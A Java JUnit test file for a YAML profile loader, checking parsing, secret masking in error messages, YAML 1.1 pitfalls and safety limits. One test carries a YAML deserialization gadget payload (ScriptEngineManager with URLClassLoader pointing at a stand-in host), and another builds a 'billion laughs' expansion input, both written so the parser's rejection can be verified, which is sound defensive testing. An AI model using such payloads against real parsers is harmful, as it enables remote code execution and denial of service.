package twin.profile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ProfileLoaderTest {

  private static final Path FILE = Path.of("profiles/x.yaml");
  private static final String HEAD = "name: x\njar: app.jar\n";

  private final ProfileLoader loader = new ProfileLoader();

  @TempDir Path tmp;

  private ProfileException error(String yaml) {
    return catchThrowableOfType(ProfileException.class, () -> loader.parse(yaml, FILE));
  }

  private String message(String yaml) {
    ProfileException e = error(yaml);
    assertThat(e).as("expected an error for:%n%s", yaml).isNotNull();
    return e.getMessage();
  }

  /** The tester's cases: each error names its place, and neither message nor snippet shows the secret. */
  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "env: {DB_PASSWORD: 0775123}|0775123|env: {DB_PASSWORD: ***}",
      "env:\\n  DB_PASSWORD: 0775123|0775123|  DB_PASSWORD: ***",
      "env:\\n  API_TOKEN: \"tok-secret-2\"\\n  API_TOKEN: \"tok-secret-2\"|tok-secret-2|  API_TOKEN: ***",
      "env:\\n  API_TOKEN: abc: def-secret-val|def-secret-val|  API_TOKEN: ***",
      "jvm-options: [\"-Ddb.password=jvmsecret-9\", 5: x]|jvmsecret-9|jvm-options: [\"-Ddb.password=***\", 5: x]",
      "env: {DB_PASSWORD: \"pw-in-flow-3\", X: [1]}|pw-in-flow-3|env: {DB_PASSWORD: ***, X: [1]}",
      "env: {'SECRET_KEY': 'it''s-secret', X: [1]}|s-secret|env: {'SECRET_KEY': ***, X: [1]}",
      "args: [--api-token=argsecret-1, 5: x]|argsecret-1|args: [--api-token=***, 5: x]",
  })
  void profileErrorsNeverShowASecretValue(String body, String secret, String shownLine) {
    String yaml = HEAD + body.replace("\\n", "\n") + "\n";
    ProfileException e = error(yaml);
    assertThat(e).as("an error for:%n%s", yaml).isNotNull();
    assertThat(e.getMessage() + "\n" + e.snippet()).as(e.getMessage() + "\n" + e.snippet()).doesNotContain(secret)
        .startsWith(FILE + ":");
    assertThat(e.snippet().lines().findFirst().orElseThrow().strip()).isEqualTo(shownLine);
  }

  @Test
  void theCaretStaysUnderTheErrorAfterAMaskedValue() {
    // The error is at [1]; the password before it is shorter once masked.
    ProfileException e = error(HEAD + "env: {DB_PASSWORD: \"a-long-password\", X: [1]}\n");
    List<String> lines = e.snippet().lines().toList();
    assertThat(lines.get(0)).isEqualTo("env: {DB_PASSWORD: ***, X: [1]}");
    assertThat(lines.get(0).charAt(lines.get(1).indexOf('^'))).as(e.snippet()).isEqualTo('[');
    // Not a secret: shown as written.
    ProfileException plain = error(HEAD + "env: {PORT: 0775}\n");
    assertThat(plain.snippet()).isEqualTo("env: {PORT: 0775}\n            ^");
    assertThat(plain.getMessage()).contains("'0775'");
  }

  @Test
  void readsEveryFieldOfAFullProfile() throws Exception {
    Path dir = Files.createDirectories(tmp.resolve("etc/profiles"));
    Path file = dir.resolve("orders.yaml");
    Files.writeString(file, String.join("\n",
        "# the orders service",
        "name: orders",
        "java: /usr/lib/jvm/java-17/bin/java",
        "workdir: ../app",
        "user: orders",
        "classpath: [lib/*, /opt/orders/orders.jar]",
        "main: com.example.orders.Main",
        "args: [--port, 8080]",
        "jvm-options:",
        "  - -Xmx4g",
        "  - \"-Dclojure.server.repl={:port 5555 :accept clojure.core.server/repl}\"",
        "  - -Duser.timezone=UTC",
        "env:",
        "  DB__SERVER_NAME: db.internal",
        "  PORT: 8080",
        "  EMPTY: \"\"",
        "  ON: 'yes'",
        "env-files: [env/orders.env, /etc/orders/env]",
        "twin:",
        "  init:",
        "    - (require '[orders.config :as config])",
        "    - |",
        "      (println",
        "        :ready)",
        "  heap: 512m",
        "  keep-options: [-javaagent:/opt/agent.jar]",
        "  env: {TWIN_MODE: debug}",
        "  unset-env: [DD_API_KEY]",
        ""));

    Profile p = loader.load(file);

    assertThat(p.file()).isEqualTo(file.toAbsolutePath().normalize());
    assertThat(p.name()).isEqualTo("orders");
    assertThat(p.java()).isEqualTo("/usr/lib/jvm/java-17/bin/java");
    assertThat(p.workdir()).isEqualTo(tmp.resolve("etc/app").toAbsolutePath().normalize());
    assertThat(p.user()).isEqualTo("orders");
    assertThat(p.classpath()).containsExactly("lib/*", "/opt/orders/orders.jar");
    assertThat(p.jar()).isNull();
    assertThat(p.main()).isEqualTo("com.example.orders.Main");
    assertThat(p.args()).containsExactly("--port", "8080");
    assertThat(p.jvmOptions()).containsExactly("-Xmx4g",
        "-Dclojure.server.repl={:port 5555 :accept clojure.core.server/repl}",
        "-Duser.timezone=UTC");
    assertThat(p.env()).containsExactly(Map.entry("DB__SERVER_NAME", "db.internal"),
        Map.entry("PORT", "8080"), Map.entry("EMPTY", ""), Map.entry("ON", "yes"));
    assertThat(p.envFiles()).containsExactly(
        dir.resolve("env/orders.env").toAbsolutePath(), Path.of("/etc/orders/env"));
    assertThat(p.twin().init()).containsExactly("(require '[orders.config :as config])",
        "(println\n  :ready)\n");
    assertThat(p.twin().heap()).isEqualTo("512m");
    assertThat(p.twin().keepOptions()).containsExactly("-javaagent:/opt/agent.jar");
    assertThat(p.twin().env()).containsExactly(Map.entry("TWIN_MODE", "debug"));
    assertThat(p.twin().unsetEnv()).containsExactly("DD_API_KEY");

    String f = file.toString();
    assertThat(p.mark("name")).hasValue(new SourceMark(f, 2, 7));
    assertThat(p.mark("workdir")).hasValue(new SourceMark(f, 4, 10));
    assertThat(p.mark("classpath")).hasValue(new SourceMark(f, 6, 12));
    assertThat(p.mark("classpath[1]")).hasValue(new SourceMark(f, 6, 20));
    assertThat(p.mark("jvm-options[2]")).hasValue(new SourceMark(f, 12, 5));
    assertThat(p.mark("env.PORT")).hasValue(new SourceMark(f, 15, 9));
    assertThat(p.mark("env-files[0]")).hasValue(new SourceMark(f, 18, 13));
    assertThat(p.mark("twin.init[1]")).hasValue(new SourceMark(f, 22, 7));
    assertThat(p.mark("twin.heap")).hasValue(new SourceMark(f, 25, 9));
    assertThat(p.mark("twin.env.TWIN_MODE")).hasValue(new SourceMark(f, 27, 20));
    assertThat(p.mark("twin.unset-env[0]")).hasValue(new SourceMark(f, 28, 15));
    assertThat(p.mark("jar")).isEmpty();
    assertThat(p.mark("name").get()).hasToString(f + ":2:7");
  }

  @Test
  void collectionsAreUnmodifiableAndEnvKeepsItsOrder() throws Exception {
    Profile p = loader.parse(HEAD + "env: {Z: 1, A: 2, M: 3}\n", FILE);
    assertThat(p.env().keySet()).containsExactly("Z", "A", "M");
    assertThatThrownBy(() -> p.env().put("B", "4")).isInstanceOf(UnsupportedOperationException.class);
    assertThatThrownBy(() -> p.args().add("x")).isInstanceOf(UnsupportedOperationException.class);
  }

  @Test
  void aMinimalProfileHasEmptyDefaults() throws Exception {
    Profile p = loader.parse(HEAD, FILE);
    assertThat(p.jar()).isEqualTo("app.jar");
    assertThat(p.classpath()).isEmpty();
    assertThat(p.java()).isNull();
    assertThat(p.workdir()).isNull();
    assertThat(p.user()).isNull();
    assertThat(p.args()).isEmpty();
    assertThat(p.env()).isEmpty();
    assertThat(p.envFiles()).isEmpty();
    assertThat(p.twin()).isEqualTo(TwinSettings.empty());
    assertThat(p.twin().heap()).isNull();
  }

  @Test
  void emptyCollectionsAreFine() throws Exception {
    Profile p = loader.parse(HEAD + "env:\nargs: []\njvm-options: []\ntwin:\n  env: {}\n", FILE);
    assertThat(p.env()).isEmpty();
    assertThat(p.args()).isEmpty();
    assertThat(p.twin().isEmpty()).isTrue();
  }

  @Test
  void aClasspathStringIsSplitOnColons() throws Exception {
    Profile p = loader.parse("name: x\nclasspath: lib/*:/opt/a.jar:classes\n", FILE);
    assertThat(p.classpath()).containsExactly("lib/*", "/opt/a.jar", "classes");
    assertThat(p.mark("classpath[2]")).hasValue(new SourceMark(FILE.toString(), 2, 12));
  }

  @Test
  void plainDecimalIntegersAreTakenAsText() throws Exception {
    Profile p = loader.parse(HEAD + "user: 1000\nargs: [--port, 8080, -1, 0]\n", FILE);
    assertThat(p.user()).isEqualTo("1000");
    assertThat(p.args()).containsExactly("--port", "8080", "-1", "0");
  }

  @Test
  void invalidYamlSyntaxPointsAtTheProblem() {
    ProfileException e = error("name: x\nclasspath: [a.jar, b.jar\n");
    assertThat(e.getMessage()).isEqualTo("profiles/x.yaml:3:1: error: expected ',' or ']', but "
        + "got <stream end> (while parsing a flow sequence that starts at 2:12)");
    assertThat(e.mark()).hasValue(new SourceMark("profiles/x.yaml", 3, 1));
    assertThat(e.problem()).startsWith("expected ',' or ']'");

    assertThat(message("name: x\n  jar: a\n"))
        .isEqualTo("profiles/x.yaml:2:6: error: mapping values are not allowed here");
    assertThat(message("name: x\n\tjar: a\n")).startsWith("profiles/x.yaml:2:1: error: found "
        + "character '\\t(TAB)' that cannot start any token");
  }

  @Test
  void errorsCarryASnippetWithACaret() {
    ProfileException e = error(HEAD + "user: yes\n");
    assertThat(e.snippet()).isEqualTo("user: yes\n      ^");
  }

  @Test
  void duplicateKeysAreRejectedAtTheSecondKey() {
    assertThat(message(HEAD + "env: {}\nargs: []\nenv: {}\n"))
        .isEqualTo("profiles/x.yaml:5:1: error: duplicate key 'env'");
    assertThat(message(HEAD + "env:\n  A: 1\n  A: 2\n"))
        .isEqualTo("profiles/x.yaml:5:3: error: duplicate key 'A'");
  }

  @Test
  void keysThatYamlReadsAsTheSameBooleanAreExplained() {
    assertThat(message(HEAD + "env:\n  ON: x\n  yes: y\n"))
        .startsWith("profiles/x.yaml:5:3: error: duplicate key 'yes': YAML 1.1 reads it as true");
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "jvm-opts    | unknown key 'jvm-opts'; did you mean 'jvm-options'?",
      "jvm_options | unknown key 'jvm_options'; did you mean 'jvm-options'?",
      "jvmOptions  | unknown key 'jvmOptions'; did you mean 'jvm-options'?",
      "envfiles    | unknown key 'envfiles'; did you mean 'env-files'?",
      "nmae        | unknown key 'nmae'; did you mean 'name'?",
      "Java        | unknown key 'Java'; did you mean 'java'?",
      "working-dir | unknown key 'working-dir'",
      "foo         | unknown key 'foo'",
      "database    | unknown key 'database'; did you mean 'databases'?",
  })
  void unknownKeysSuggestTheNearestKnownOne(String key, String expected) {
    assertThat(message(HEAD + key + ": []\n"))
        .isEqualTo("profiles/x.yaml:3:1: error: " + expected);
  }

  @Test
  void unknownKeysUnderTwinAreRejectedToo() {
    assertThat(message(HEAD + "twin:\n  heap: 1g\n  heap-size: 1g\n")).isEqualTo(
        "profiles/x.yaml:5:3: error: unknown key 'heap-size' in 'twin'; did you mean 'heap'?");
    assertThat(message(HEAD + "twin:\n  init_forms: []\n")).isEqualTo(
        "profiles/x.yaml:4:3: error: unknown key 'init_forms' in 'twin'; did you mean 'init'?");
  }

  @Test
  void readsDatabasesAsWrittenWithVariablesUnresolved() throws Exception {
    Profile p = loader.parse(HEAD + String.join("\n",
        "databases:",
        "  main:",
        "    url: jdbc:postgresql://${DB_HOST}:5432/orders",
        "    user: ${DB_USER}",
        "    password: ${DB_PASSWORD}",
        "    mode: sandbox",
        "    statement-timeout: 30s",
        "    lock-timeout: 500ms",
        "    max-rows: 200",
        "    fetch-size: 5000",
        "    read-only: {user: reader, password: \"${READER_PASSWORD}\"}",
        "  reports:",
        "    datasource: (reports.db/datasource)",
        ""), FILE);
    assertThat(p.databases()).containsOnlyKeys("main", "reports");
    Database main = p.databases().get("main");
    assertThat(main).isEqualTo(new Database("main", "jdbc:postgresql://${DB_HOST}:5432/orders", "${DB_USER}",
        "${DB_PASSWORD}", "sandbox", "30s", "500ms", 200, 5000, "reader", "${READER_PASSWORD}", null));
    assertThat(p.databases().get("reports").mode()).isEqualTo("read-only");
    assertThat(p.databases().get("reports").datasource()).isEqualTo("(reports.db/datasource)");
  }

  @Test
  void topLevelDatasourceIsDatabaseMain() throws Exception {
    Profile p = loader.parse(HEAD + "datasource: \"(orders.db/pool)\"\n", FILE);
    assertThat(p.databases()).containsOnlyKeys("main");
    assertThat(p.databases().get("main").datasource()).isEqualTo("(orders.db/pool)");
    assertThat(message(HEAD + "datasource: (a)\ndatabases:\n  main: {url: x}\n"))
        .startsWith("profiles/x.yaml:3:1: error: 'datasource' makes database 'main', and 'databases' has a 'main' too");
  }

  @Test
  void badDatabaseEntriesAreReportedWhereTheyAre() {
    assertThat(message(HEAD + "databases:\n  main:\n    url: x\n    pasword: z\n")).isEqualTo(
        "profiles/x.yaml:6:5: error: unknown key 'pasword' in 'databases.main'; did you mean 'password'?");
    assertThat(message(HEAD + "databases:\n  main:\n    url: x\n    mode: readonly\n")).isEqualTo(
        "profiles/x.yaml:6:11: error: 'databases.main.mode' must be read-only, sandbox or read-write; did you mean 'read-only'?");
    assertThat(message(HEAD + "databases:\n  main:\n    url: x\n    statement-timeout: 30\n")).isEqualTo(
        "profiles/x.yaml:6:24: error: 'databases.main.statement-timeout' must be a duration such as 500ms, 30s or 5m");
    assertThat(message(HEAD + "databases:\n  main:\n    url: x\n    max-rows: 0\n")).isEqualTo(
        "profiles/x.yaml:6:15: error: 'databases.main.max-rows' must be a positive whole number");
    assertThat(message(HEAD + "databases:\n  main:\n    user: x\n")).isEqualTo(
        "profiles/x.yaml:4:3: error: 'databases.main' needs a url: (a JDBC URL) or a datasource: form");
    assertThat(message(HEAD + "databases:\n  main: {url: x, datasource: z}\n")).isEqualTo(
        "profiles/x.yaml:4:18: error: 'url' and 'datasource' are mutually exclusive in 'databases.main'; keep one");
    assertThat(message(HEAD + "databases:\n  main:\n    url: x\n    read-only: {password: z}\n")).isEqualTo(
        "profiles/x.yaml:6:16: error: 'databases.main.read-only' needs a user:");
    assertThat(message(HEAD + "databases:\n  Main: {url: x}\n")).isEqualTo(
        "profiles/x.yaml:4:3: error: database name 'Main' must match [a-z0-9][a-z0-9_-]*");
    assertThat(message(HEAD + "databases: [x]\n")).startsWith(
        "profiles/x.yaml:3:12: error: 'databases' must be a mapping");
  }

  @Test
  void extraClasspathEntriesMustExist() throws Exception {
    Path dir = Files.createDirectories(tmp.resolve("p"));
    Files.writeString(dir.resolve("driver.jar"), "");
    Path file = dir.resolve("x.yaml");
    Profile p = loader.parse(HEAD + "twin:\n  extra-classpath: [driver.jar]\n", file);
    assertThat(p.twin().extraClasspath()).containsExactly(dir.resolve("driver.jar").toString());
    ProfileException e = catchThrowableOfType(ProfileException.class,
        () -> loader.parse(HEAD + "twin:\n  extra-classpath: [driver.jar, missing.jar]\n", file));
    assertThat(e.getMessage()).isEqualTo(file + ":4:33: error: 'twin.extra-classpath[1]': no such file: "
        + dir.resolve("missing.jar"));
  }

  @Test
  void allowedUsersAndGroupsAreAccountNames() throws ProfileException {
    Profile p = new ProfileLoader().parse(HEAD + "twin:\n  allowed-users: [alice, svc_ops]\n  allowed-groups: [oncall]\n",
        Path.of("profiles/x.yaml"));
    assertThat(p.twin().allowedUsers()).containsExactly("alice", "svc_ops");
    assertThat(p.twin().allowedGroups()).containsExactly("oncall");
    assertThat(p.twin().sharesAccess()).isTrue();
    assertThat(new ProfileLoader().parse(HEAD, Path.of("profiles/x.yaml")).twin().sharesAccess()).isFalse();
    assertThat(message(HEAD + "twin:\n  allowed-users: [alice, \"bob smith\"]\n"))
        .isEqualTo("profiles/x.yaml:4:26: error: 'bob smith' is not a user name");
    assertThat(message(HEAD + "twin:\n  allowed-groups: [Ops]\n"))
        .isEqualTo("profiles/x.yaml:4:20: error: 'Ops' is not a group name");
    assertThat(message(HEAD + "twin:\n  allowed-user: [alice]\n"))
        .isEqualTo("profiles/x.yaml:4:3: error: unknown key 'allowed-user' in 'twin'; did you mean 'allowed-users'?");
  }

  @Test
  void aSourceTakesExactlyOneOfItsFourKeys() throws ProfileException {
    Profile byPid = loader.parse("name: x\nsource:\n  pid: 4242\n", FILE);
    assertThat(byPid.source().kind()).isEqualTo(ProfileSource.Kind.PID);
    assertThat(byPid.source().value()).isEqualTo("4242");
    assertThat(byPid.source().mark().toString()).isEqualTo("profiles/x.yaml:3:8");
    assertThat(byPid.classpath()).isEmpty();
    assertThat(byPid.jar()).isNull();
    Profile byFile = loader.parse("name: x\nsource: {pid-file: run/x.pid}\n", FILE);
    assertThat(byFile.source().kind()).isEqualTo(ProfileSource.Kind.PID_FILE);
    assertThat(byFile.source().value()).isEqualTo(FILE.toAbsolutePath().getParent().resolve("run/x.pid").toString());
    assertThat(loader.parse("name: x\nsource: {match: orders.jar}\nenv: {A: b}\n", FILE).source())
        .extracting(ProfileSource::kind, ProfileSource::value).containsExactly(ProfileSource.Kind.MATCH, "orders.jar");
    assertThat(loader.parse("name: x\nsource: {systemd-unit: orders.service}\njar: a.jar\n", FILE).source().kind())
        .isEqualTo(ProfileSource.Kind.SYSTEMD_UNIT);
    assertThat(loader.parse("name: x\njar: a.jar\n", FILE).source()).isNull();
  }

  @Test
  void aBadSourceSaysWhatItTakes() {
    assertThat(message("name: x\nsource: {pid: 1, match: y}\n")).isEqualTo(
        "profiles/x.yaml:2:18: error: 'source' takes exactly one of pid, pid-file, match, systemd-unit; keep one");
    assertThat(message("name: x\nsource: {}\n")).isEqualTo(
        "profiles/x.yaml:2:9: error: 'source' must be a mapping with one of: pid, pid-file, match, systemd-unit");
    assertThat(message("name: x\nsource: orders.jar\n")).isEqualTo(
        "profiles/x.yaml:2:9: error: 'source' must be a mapping with one of: pid, pid-file, match, systemd-unit");
    assertThat(message("name: x\nsource:\n")).isEqualTo(
        "profiles/x.yaml:2:1: error: 'source' has no value; must be a mapping with one of: pid, pid-file, match, systemd-unit");
    assertThat(message("name: x\nsource: {pid: -3}\n")).isEqualTo(
        "profiles/x.yaml:2:15: error: 'source.pid' must be a process id (a positive number)");
    assertThat(message("name: x\nsource: {pidfile: /run/x.pid}\n")).isEqualTo(
        "profiles/x.yaml:2:10: error: unknown key 'pidfile' in 'source'; did you mean 'pid-file'?");
    assertThat(message("name: x\nsource: {match: \"\"}\n")).isEqualTo(
        "profiles/x.yaml:2:17: error: 'source.match' is empty");
  }

  @Test
  void lifetimesAreDurations() throws ProfileException {
    Profile p = new ProfileLoader().parse(HEAD + "twin:\n  idle-timeout: 10m\n  max-lifetime: 2h\n", Path.of("profiles/x.yaml"));
    assertThat(p.twin().idleTimeout()).isEqualTo("10m");
    assertThat(p.twin().maxLifetime()).isEqualTo("2h");
    assertThat(p.twin().requireReason()).isFalse();
    assertThat(new ProfileLoader().parse(HEAD + "twin:\n  require-reason: true\n", Path.of("profiles/x.yaml"))
        .twin().requireReason()).isTrue();
    assertThat(message(HEAD + "twin:\n  require-reason: maybe\n"))
        .isEqualTo("profiles/x.yaml:4:19: error: 'twin.require-reason' must be true or false");
    assertThat(message(HEAD + "twin:\n  idle-timeout: soon\n"))
        .isEqualTo("profiles/x.yaml:4:17: error: 'twin.idle-timeout' must be a duration such as 90s, 30m, 8h or 2d");
  }

  @Test
  void wrongTypesNameTheKeyAndWhatWasExpected() {
    assertThat(message(HEAD + "jvm-options: -Xmx1g\n"))
        .isEqualTo("profiles/x.yaml:3:14: error: 'jvm-options' must be a list of strings");
    assertThat(message(HEAD + "jvm-options: [-Xmx1g, [-Xms1g]]\n"))
        .isEqualTo("profiles/x.yaml:3:23: error: 'jvm-options' must be a list of strings");
    assertThat(message(HEAD + "env: [A=1]\n"))
        .isEqualTo("profiles/x.yaml:3:6: error: 'env' must be a mapping of NAME: value");
    assertThat(message(HEAD + "env:\n  A: [1]\n"))
        .isEqualTo("profiles/x.yaml:4:6: error: 'env.A' must be a text (a variable holds one string), not a list");
    assertThat(message(HEAD + "env:\n  A: {b: 1}\n"))
        .isEqualTo("profiles/x.yaml:4:6: error: 'env.A' must be a text (a variable holds one string), not a mapping");
    assertThat(message(HEAD + "java: [a]\n"))
        .isEqualTo("profiles/x.yaml:3:7: error: 'java' must be a string");
    assertThat(message(HEAD + "twin: [a]\n"))
        .startsWith("profiles/x.yaml:3:7: error: 'twin' must be a mapping");
    assertThat(message("name: x\nclasspath: {a: b}\n")).isEqualTo("profiles/x.yaml:2:12: "
        + "error: 'classpath' must be a list of paths or a ':'-separated string");
    assertThat(message("- name: x\n"))
        .startsWith("profiles/x.yaml:1:1: error: a profile must be a mapping");
    assertThat(message(HEAD + "? [a, b]\n: c\n"))
        .isEqualTo("profiles/x.yaml:3:3: error: keys must be plain text");
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
      "user: yes         | 3:7  | 'yes' is read by YAML 1.1 as a boolean; quote it (\"yes\") if you mean the text",
      "user: Off         | 3:7  | 'Off' is read by YAML 1.1 as a boolean; quote it (\"Off\") if you mean the text",
      "env: {DEBUG: on}  | 3:14 | 'on' is read by YAML 1.1 as a boolean; quote it (\"on\") if you mean the text",
      "args: [-v, n]     | 3:12 | 'n' is read by YAML 1.1 as a boolean; quote it (\"n\") if you mean the text",
      "main: tRUE        | 3:7  | 'tRUE' is read by YAML 1.1 as a boolean; quote it (\"tRUE\") if you mean the text",
      "user: 010         | 3:7  | '010' is read by YAML 1.1 as a number; quote it (\"010\") if you mean the text",
      "user: 0x1F        | 3:7  | '0x1F' is read by YAML 1.1 as a number; quote it (\"0x1F\") if you mean the text",
      "user: 1_000       | 3:7  | '1_000' is read by YAML 1.1 as a number; quote it (\"1_000\") if you mean the text",
      "user: 1:20        | 3:7  | '1:20' is read by YAML 1.1 as a number; quote it (\"1:20\") if you mean the text",
      "main: 1e3         | 3:7  | '1e3' is read by YAML 1.1 as a number; quote it (\"1e3\") if you mean the text",
      "main: 1.10        | 3:7  | '1.10' is read by YAML 1.1 as a number; quote it (\"1.10\") if you mean the text",
      "main: .5          | 3:7  | '.5' is read by YAML 1.1 as a number; quote it (\".5\") if you mean the text",
      "user: 2001-12-14  | 3:7  | '2001-12-14' is read by YAML 1.1 as a date; quote it (\"2001-12-14\") if you mean the text",
      "twin: {heap: 1.5} | 3:14 | '1.5' is read by YAML 1.1 as a number; quote it (\"1.5\") if you mean the text",
      "java:             | 3:1  | 'java' has no value",
      "java: ~           | 3:1  | 'java' has no value",
      "java: null        | 3:1  | 'java' has no value",
      "env: {A: }        | 3:7  | 'env.A' has no value; write A: \"\" for an empty one",
      "args: [a, ~]      | 3:11 | 'args[1]' has no value",
  })
  void yaml11SurprisesAreReportedNotCoerced(String line, String at, String expected) {
    assertThat(message(HEAD + line + "\n"))
        .isEqualTo("profiles/x.yaml:" + at + ": error: " + expected);
  }

  @Test
  void quotedValuesAreTakenAsWritten() throws Exception {
    Profile p = loader.parse(
        HEAD + "user: \"yes\"\nmain: '010'\nargs: [\"1e3\", '2001-12-14', \"~\"]\n", FILE);
    assertThat(p.user()).isEqualTo("yes");
    assertThat(p.main()).isEqualTo("010");
    assertThat(p.args()).containsExactly("1e3", "2001-12-14", "~");
  }

  @Test
  void nameIsRequiredAndMustFollowTheRule() {
    assertThat(message("jar: a.jar\n"))
        .isEqualTo("profiles/x.yaml:1:1: error: missing required key 'name'");
    assertThat(message("# a comment\njar: a.jar\n"))
        .isEqualTo("profiles/x.yaml:2:1: error: missing required key 'name'");
    assertThat(message("jar: a.jar\nname: Orders_1\n")).isEqualTo("profiles/x.yaml:2:7: error: "
        + "'name' must match [a-z0-9][a-z0-9-]* (lower-case letters, digits and '-', not "
        + "starting with '-')");
    assertThat(message("jar: a.jar\nname: -x\n")).startsWith("profiles/x.yaml:2:7: error: "
        + "'name' must match");
  }

  @Test
  void classpathAndJarAreExclusiveButOneIsRequired() {
    assertThat(message("name: x\nclasspath: [a]\njar: b.jar\n")).isEqualTo(
        "profiles/x.yaml:3:1: error: 'classpath' and 'jar' are mutually exclusive; keep one");
    assertThat(message("name: x\njar: b.jar\nclasspath: a\n")).isEqualTo(
        "profiles/x.yaml:3:1: error: 'classpath' and 'jar' are mutually exclusive; keep one");
    assertThat(message("name: x\nmain: a.B\n"))
        .isEqualTo("profiles/x.yaml:1:1: error: one of 'classpath', 'jar' or 'source' is required");
    assertThat(message("name: x\nclasspath: []\n"))
        .isEqualTo("profiles/x.yaml:2:12: error: 'classpath' is empty");
    assertThat(message("name: x\nclasspath: a.jar::b.jar\n"))
        .isEqualTo("profiles/x.yaml:2:12: error: 'classpath' has an empty entry");
  }

  @Test
  void globalTagsAreRejected() {
    String gadget = "name: x\njar: a\nmain: !!javax.script.ScriptEngineManager "
        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n";
    assertThat(message(gadget)).isEqualTo("profiles/x.yaml:3:7: error: global tag is not "
        + "allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
  }

  @Test
  void localTagsAreRejected() {
    assertThat(message(HEAD + "main: !foo x\n"))
        .isEqualTo("profiles/x.yaml:3:7: error: could not determine a constructor for the tag !foo");
  }

  @Test
  void billionLaughsHitsTheAliasLimit() {
    StringBuilder y = new StringBuilder(HEAD).append("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 6; i++) {
      y.append("a").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 9; j++) {
        y.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
      }
      y.append("]\n");
    }
    assertThat(message(y.toString())).isEqualTo("profiles/x.yaml: error: alias limit exceeded: "
        + "more than 10 aliases to collections (a guard against 'billion laughs' expansion)");
  }

  @Test
  void deepNestingHitsTheNestingLimit() {
    ProfileException e = error(HEAD + "args: " + "[".repeat(40) + "]".repeat(40) + "\n");
    assertThat(e.getMessage()).isEqualTo("profiles/x.yaml: error: nesting limit exceeded: "
        + "collections nested deeper than 20 levels");
    assertThat(e.mark()).isEmpty();
  }

  @Test
  void oversizedProfilesHitTheSizeLimit() {
    String big = HEAD + "main: " + "x".repeat(ProfileLoader.MAX_CODE_POINTS) + "\n";
    assertThat(message(big)).isEqualTo("profiles/x.yaml: error: size limit exceeded: a profile "
        + "may hold at most 1048576 characters (1 MiB)");
  }

  @Test
  void multiDocumentFilesAreRejected() {
    assertThat(message(HEAD + "---\nname: y\njar: b\n")).isEqualTo("profiles/x.yaml:4:1: error: "
        + "a profile is one YAML document; remove the second one (after '---')");
  }

  @Test
  void emptyFilesAreRejected() {
    assertThat(message("")).isEqualTo("profiles/x.yaml: error: profile is empty");
    assertThat(message("# only a comment\n\n")).isEqualTo("profiles/x.yaml: error: profile is empty");
    assertThat(message("---\n")).isEqualTo("profiles/x.yaml: error: profile is empty");
  }

  @Test
  void heapMustBeAJvmSize() throws Exception {
    assertThat(message(HEAD + "twin:\n  heap: 4 GB\n")).isEqualTo(
        "profiles/x.yaml:4:9: error: 'twin.heap' must be a JVM size with a unit, such as 512m or 2g (a bare number "
            + "would be bytes)");
    assertThat(message(HEAD + "twin:\n  heap: -Xmx1g\n")).startsWith(
        "profiles/x.yaml:4:9: error: 'twin.heap' must be a JVM size");
    assertThat(loader.parse(HEAD + "twin: {heap: 2G}\n", FILE).twin().heap()).isEqualTo("2G");
    // The JVM reads -Xmx1024 as 1024 bytes and does not start; 0m is no heap at all.
    assertThat(message(HEAD + "twin: {heap: 1024}\n")).startsWith("profiles/x.yaml:3:14: error: 'twin.heap' must be");
    assertThat(message(HEAD + "twin: {heap: 0m}\n")).startsWith("profiles/x.yaml:3:14: error: 'twin.heap' must be");
  }

  @Test
  void envNamesMustBeVariableNames() {
    assertThat(message(HEAD + "env:\n  OK_1: a\n  DB-HOST: b\n")).isEqualTo(
        "profiles/x.yaml:5:3: error: 'DB-HOST' is not a valid environment variable name "
            + "(expected [A-Za-z_][A-Za-z0-9_]*)");
    assertThat(message(HEAD + "twin:\n  env: {1X: a}\n")).startsWith(
        "profiles/x.yaml:4:9: error: '1X' is not a valid environment variable name");
    assertThat(message(HEAD + "twin:\n  unset-env: [A, B C]\n")).startsWith(
        "profiles/x.yaml:4:18: error: 'B C' is not a valid environment variable name");
  }

  @Test
  void aNulCharacterIsAnErrorAtItsPlaceAndTheValueIsNotShown() {
    // Written as YAML's escape: the JVM would refuse the variable at start, with the value in its message.
    ProfileException e = error(HEAD + "env:\n  DB_PASSWORD: \"nulsecret-42\\0tail\"\n");
    assertThat(e.getMessage()).isEqualTo("profiles/x.yaml:4:16: error: a NUL character (\\0) cannot be given to a "
        + "process (as a variable, an option or an argument); remove it");
    assertThat(e.snippet()).doesNotContain("nulsecret-42").contains("***");
    assertThat(message(HEAD + "args: [\"a\\0b\"]\n")).startsWith("profiles/x.yaml:3:8: error: a NUL character");
    // Written raw: YAML itself refuses it, at its place, without the line.
    ProfileException raw = error(HEAD + "env:\n  DB_PASSWORD: nulsecret-42\0tail\n");
    assertThat(raw.getMessage())
        .isEqualTo("profiles/x.yaml:4:28: error: the character U+0000 is not allowed in a YAML file; remove it");
    assertThat(raw.snippet()).isEmpty();
  }

  @Test
  void mergeKeysAreNotSupported() {
    assertThat(message(HEAD + "env:\n  <<: {A: 1}\n"))
        .isEqualTo("profiles/x.yaml:4:3: error: 'env' must be a mapping of NAME: value");
    assertThat(message("base: &b {name: x}\n<<: *b\njar: a\n"))
        .startsWith("profiles/x.yaml:1:1: error: unknown key 'base'");
    assertThat(message("<<: {name: x}\njar: a\n"))
        .isEqualTo("profiles/x.yaml:1:1: error: merge keys ('<<') are not supported");
  }

  @Test
  void loadReportsUnreadableFilesWithoutAPosition() throws Exception {
    Path missing = tmp.resolve("nope.yaml");
    assertThatThrownBy(() -> loader.load(missing))
        .isInstanceOf(ProfileException.class)
        .hasMessage(missing + ": error: cannot read profile: no such file");
    Path latin1 = tmp.resolve("latin1.yaml");
